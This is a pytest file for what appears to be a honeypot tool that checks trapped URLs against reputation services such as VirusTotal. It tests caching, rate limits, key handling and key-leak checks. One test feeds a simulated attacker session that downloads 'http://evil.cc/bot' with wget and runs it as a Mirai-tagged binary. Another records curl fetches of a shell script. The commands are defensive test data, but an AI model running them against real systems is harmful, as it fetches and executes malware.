from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select
from tests.intel.fakes import FakeHttp, http_server
from tests.pipeline.conftest import ELF, START, Bench

from urltrap.intel import errors
from urltrap.intel.lists.folder import Context
from urltrap.intel.loop import Background
from urltrap.intel.reputation.asked import Allowance, Answer, Asked, Subject, Tools
from urltrap.intel.reputation.virustotal import VirusTotal
from urltrap.model.settings import Settings
from urltrap.pipeline.asking import AskStage
from urltrap.pipeline.looking_up import LookUpStage
from urltrap.store import lookups
from urltrap.store.queries import intel as queries
from urltrap.store.rows import url_key
from urltrap.store.schema import jobs, observations

KEY = "k3y-that-must-appear-nowhere"
URL = b"http://evil.cc/bot"
HOUR = timedelta(hours=1)


class Scripted(Asked):
    """Says what the test put into `script`, the last one again and again."""

    name = "scripted"
    tier = "metered"
    kinds = frozenset({"url", "sha256", "ip", "host"})
    limits = {"minute": 60, "day": 100}

    def __init__(self, *script: Answer | Exception) -> None:
        super().__init__("base")
        self.script = list(script)
        self.asked: list[Subject] = []
        self.told: list[Allowance] = []

    async def ask(self, tools: Tools, subject: Subject) -> Answer:
        self.asked.append(subject)
        step = self.script.pop(0) if len(self.script) > 1 else self.script[0]
        if isinstance(step, Exception):
            raise step
        return step


class Telling(Scripted):
    name = "telling"

    async def allowances(self, tools: Tools) -> list[Allowance]:
        return self.told


def go_online(bench: Bench, **intel: object) -> None:
    bench.workshop.settings = Settings.model_validate(
        {"publish": {"delay_minutes": [0, 0]}, "testing": {"public_networks": ["198.51.100.0/24"]},
         "intel": {"online": True, **intel}}
    )  # fmt: skip


def want(bench: Bench, provider: Asked, *subjects: str) -> None:
    with bench.store.begin() as connection:
        lookups.want(
            connection, [lookups.Question(provider.name, "host", subject) for subject in subjects], bench.time
        )


def turn(bench: Bench, stage: AskStage) -> int:
    """Ask what is due and take in the answers."""
    bench.time += timedelta(seconds=2)
    done = stage.run(bench.workshop)
    for future in stage.waiting():
        future.exception(timeout=20)
    return done + stage.run(bench.workshop)


def said(bench: Bench, subject: str) -> list[tuple[str, str]]:
    return [(item.result, item.detail) for item in queries.said(bench.store, "host", subject)]


@pytest.fixture
def stage_of(bench: Bench) -> Iterator[object]:
    made: list[AskStage] = []

    def make(*providers: Asked) -> AskStage:
        go_online(bench)
        stage = AskStage(list(providers))
        made.append(stage)
        return stage

    yield make
    for stage in made:
        stage.close()


def test_an_answer_is_kept_and_fresh_for_as_long_as_its_kind(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    provider = Scripted(Answer(False), Answer(False), Answer(True, "bad", ("mirai",)))
    stage = stage_of(provider)
    want(bench, provider, "a.example")
    turn(bench, stage)
    assert said(bench, "a.example") == [("not-listed", "")]
    for hours, asked in ((5, 1), (1.1, 2), (11, 2), (1.1, 3), (24 * 6, 3), (25, 4)):
        bench.time += timedelta(hours=hours)
        want(bench, provider, "a.example")
        turn(bench, stage)
        assert len(provider.asked) == asked, hours
    assert said(bench, "a.example") == [("listed", "bad")]


def test_an_error_is_never_cached_and_takes_no_listing_back(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    provider = Scripted(Answer(True, "bad"), errors.Malformed("HTML"), Answer(True, "bad"))
    stage = stage_of(provider)
    want(bench, provider, "a.example")
    turn(bench, stage)
    bench.time += timedelta(days=8)
    want(bench, provider, "a.example")
    turn(bench, stage)
    assert said(bench, "a.example") == [("listed", "bad")]
    bench.time += timedelta(minutes=1)
    turn(bench, stage)
    assert len(provider.asked) == 3


def test_too_many_questions_pause_the_provider_until_it_says_and_lose_nothing(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    until = START + 2 * HOUR
    provider = Scripted(errors.Limited("too many", until), Answer(True))
    stage = stage_of(provider)
    want(bench, provider, "a.example", "b.example")
    turn(bench, stage)
    asked = len(provider.asked)
    (row,) = queries.quotas(bench.store, bench.time)
    assert (row.state, row.until, row.reason) == ("waits", until, "too many")
    bench.time += HOUR
    turn(bench, stage)
    assert len(provider.asked) == asked
    waiting = queries.waiting(bench.store, "host", "a.example", bench.time)
    assert not waiting or waiting[0].not_before == until
    bench.time = until
    turn(bench, stage)
    turn(bench, stage)
    assert {s.value for s in provider.asked} == {"a.example", "b.example"}
    assert said(bench, "a.example") == said(bench, "b.example") == [("listed", "")]


def test_a_refused_key_stops_questions_until_it_changes(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    provider = Scripted(errors.Refused("the key is not accepted"), Answer(True))
    stage = stage_of(provider)
    want(bench, provider, "a.example")
    turn(bench, stage)
    bench.time += timedelta(days=30)
    turn(bench, stage)
    assert len(provider.asked) == 1
    (row,) = queries.quotas(bench.store, bench.time)
    assert (row.state, row.waiting, row.until) == ("refused", 1, None)
    again = stage_of(provider)
    turn(bench, again)
    assert len(provider.asked) == 1, "a restart changes nothing"
    provider.base = "another configuration"
    turn(bench, stage_of(provider))
    assert len(provider.asked) == 2 and said(bench, "a.example") == [("listed", "")]


def test_five_failures_open_the_breaker_and_an_unforeseen_error_shows_only_its_type(
    bench: Bench, stage_of
) -> None:  # type: ignore[no-untyped-def]
    provider = Scripted(RuntimeError(f"http://x/?key={KEY}"))
    stage = stage_of(provider)
    want(bench, provider, *(f"{n}.example" for n in range(12)))
    for _ in range(6):
        turn(bench, stage)
    assert 5 <= len(provider.asked) <= 8
    (row,) = queries.quotas(bench.store, bench.time)
    assert row.state == "waits" and row.waiting == 12 and row.reason == "unforeseen: RuntimeError"


def test_what_a_provider_cannot_be_asked_is_nobody_s_failure(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    provider = Scripted(errors.Unaskable("it takes no such subject"))
    stage = stage_of(provider)
    want(bench, provider, "a.example")
    for _ in range(3):
        turn(bench, stage)
        bench.time += HOUR
    assert len(provider.asked) == 1 and said(bench, "a.example")[0][0] == "error"
    assert queries.quotas(bench.store, bench.time)[0].state == "open"


def test_the_quota_that_a_provider_tells_is_kept_to(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    provider = Telling(Answer(False))
    provider.told = [Allowance("day", 3, 1)]
    stage = stage_of(provider)
    turn(bench, stage)
    want(bench, provider, *(f"{n}.example" for n in range(9)))
    for _ in range(4):
        turn(bench, stage)
    assert len(provider.asked) == 2
    (row,) = queries.quotas(bench.store, bench.time)
    assert row.until == START.replace(hour=0) + timedelta(days=1) and row.waiting == 7
    assert row.last_expected == START.replace(hour=0) + timedelta(days=3)


def test_nobody_is_asked_before_the_operator_says_so(bench: Bench) -> None:
    provider = Scripted(Answer(True))
    want(bench, provider, "a.example")
    stage = AskStage([provider])
    assert stage.run(bench.workshop) == 0 and provider.asked == []


def test_a_listing_has_the_url_judged_again_and_says_how_much_earlier_we_were(bench: Bench) -> None:
    provider = Scripted(Answer(True, "this payload", ("mirai",), "", START + 5 * HOUR))
    bench.fetcher.bodies[URL.decode()] = ELF
    session = bench.visit(b"wget " + URL, asks=[(URL, b"bot")], runs=[[b"./bot"]])
    bench.trap_fetches(URL, session)
    bench.settle()
    go_online(bench)
    stage = AskStage([provider])
    with bench.store.begin() as connection:
        from urltrap.store import work

        work.put(connection, "lookup", [url_key(URL.decode())], bench.time)
    LookUpStage([provider]).run(bench.workshop)
    bench.time += 6 * HOUR
    turn(bench, stage)
    stage.close()
    assert [subject.kind for subject in provider.asked] == ["sha256", "url", "host"], "the hash first"
    ((name, listed, basis, seconds),) = queries.lead(bench.store, url_key(URL.decode()))
    assert (name, basis) == ("scripted", "stated") and listed == START + 5 * HOUR
    assert seconds == 5 * 3600
    with bench.store.connect() as connection:
        due = connection.execute(select(jobs.c.subject).where(jobs.c.stage == "judge")).scalars().all()
    assert url_key(URL.decode()) in due


def test_what_is_on_a_list_of_the_benign_is_not_asked_about(bench: Bench, tmp_path: Path) -> None:
    provider = Scripted(Answer(True))
    bench.visit(b"curl http://ifconfig.me/ip", b"curl https://raw.githubusercontent.com/a/b/x.sh")
    bench.line.drain()
    bench.workshop.lists = Context(None)
    bench.workshop.lists.refresh(bench.time)
    with bench.store.begin() as connection:
        from urltrap.store import work

        keys = [url_key("http://ifconfig.me/ip"), url_key("https://raw.githubusercontent.com/a/b/x.sh")]
        work.put(connection, "lookup", keys, bench.time)
    LookUpStage([provider]).run(bench.workshop)
    with bench.store.connect() as connection:
        wanted = connection.execute(select(lookups.lookups.c.subject_kind, lookups.lookups.c.subject)).all()
    assert [tuple(row) for row in wanted] == [("url", "https://raw.githubusercontent.com/a/b/x.sh")]


def test_a_real_provider_through_the_whole_stage_leaves_its_key_nowhere(
    bench: Bench, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    server_loop = Background()
    context = http_server()
    fake: FakeHttp = server_loop.submit(context.__aenter__()).result(20)
    go_online(bench, keys={"virustotal": KEY})
    provider = VirusTotal(fake.base)
    stage = AskStage([provider])
    try:
        body = {"data": {"attributes": {"last_analysis_stats": {"malicious": 9, "harmless": 1}}}}
        fake.body = json.dumps(body).encode()
        want(bench, provider, "a.example")
        turn(bench, stage)
        assert said(bench, "a.example") == [("listed", "9 of 10 engines")]
        for status in (403, 429, 500):
            fake.status = status
            want(bench, provider, f"{status}.example")
            turn(bench, stage)
            bench.time += 2 * HOUR
        assert fake.asked[0].headers["x-apikey"] == KEY
        with bench.store.connect() as connection:
            assert connection.execute(select(observations.c.result)).scalars().all().count("error") >= 1
    finally:
        stage.close()
        server_loop.submit(context.__aexit__(None, None, None)).result(20)
        server_loop.close()
    bench.store.flush()
    everything = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
    assert KEY.encode() not in everything
    out = capsys.readouterr()
    assert KEY not in out.out + out.err
